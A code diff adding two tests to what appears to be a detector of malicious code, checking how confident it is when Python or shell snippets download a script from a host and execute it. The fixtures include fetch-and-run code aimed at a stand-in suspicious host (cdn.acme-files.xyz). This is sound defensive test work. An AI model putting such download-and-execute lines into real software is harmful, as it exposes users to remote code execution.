@@ -474,3 +474,26 @@ test('what is pasted by a function of that name is meant to be seen', () => {
   assert.deepEqual(sends('pastebin'), ['shady-contact']);
   assert.deepEqual(sends('check'), ['file-sent', 'shady-contact']);
 });
+
+test('an installer that gets what its vendor hands out to everybody is doubted, not condemned', () => {
+  const confidence = (text: string): string | undefined =>
+    actsOf({ path: 'pkg/command.py', text, language: 'python', context: 'runtime' }).find(
+      ({ kind }) => kind === 'dropped-execution',
+    )?.confidence;
+  const code = (name: string, address: string): string =>
+    `import subprocess, tempfile, requests\n\ndef ${name}(root):\n    script = tempfile.NamedTemporaryFile(delete=False, suffix=".sh")\n    open(script.name, "wb").write(requests.get("${address}").content)\n    subprocess.check_output([script.name, "--root", root])\n`;
+
+  assert.equal(confidence(code('_install_posix', 'https://get.acme.com/install.sh')), 'low');
+  assert.notEqual(confidence(code('_install_posix', 'https://cdn.acme-files.xyz/x.sh')), 'low');
+  assert.notEqual(confidence(code('greet', 'https://get.acme.com/install.sh')), 'low');
+});
+
+test('helpers of a build come from the forge of their project', () => {
+  const shell = (text: string): readonly ActKind[] =>
+    actsOf({ path: 'autogen.sh', text, language: 'shell', context: 'runtime' }).map(({ kind }) => kind);
+  const fetched = (host: string): string =>
+    `curl -sSL -o config.guess \\\n  'https://${host}/config.guess' &&\n  chmod +x config.guess && exec ./config.guess\n`;
+
+  assert.deepEqual(shell(fetched('git.savannah.gnu.org')), []);
+  assert.deepEqual(shell(fetched('cdn.acme-files.xyz')), ['dropped-execution']);
+});
